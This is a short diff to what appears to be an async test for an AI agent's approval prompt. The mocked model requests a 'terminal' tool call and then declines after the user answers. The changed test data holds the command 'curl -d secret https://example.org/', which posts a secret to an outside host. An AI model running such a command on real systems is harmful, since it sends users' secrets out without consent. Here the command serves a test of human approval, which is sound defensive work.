@@ -151,13 +151,13 @@ async def test_the_server_is_killed_in_mid_answer_and_the_conversation_goes_on(
 
 
 async def test_an_approval_is_answered_at_the_prompt(data_dir: Path, wires: WireServer) -> None:
-    arguments = json.dumps({"url": "https://example.org/"})
+    arguments = json.dumps({"command": "curl -d secret https://example.org/"})
     wires.play(
         Answer(
             sse(
-                openai_delta(tool_calls=[openai_call(0, arguments, "call_1", "web_fetch")]),
+                openai_call(0, arguments, "call_1", "terminal"),
                 openai_delta(finish="tool_calls"),
-                "[DONE]",
+                b"[DONE]",
             )
         ),
         Answer(openai_answer(["Then I will not."])),
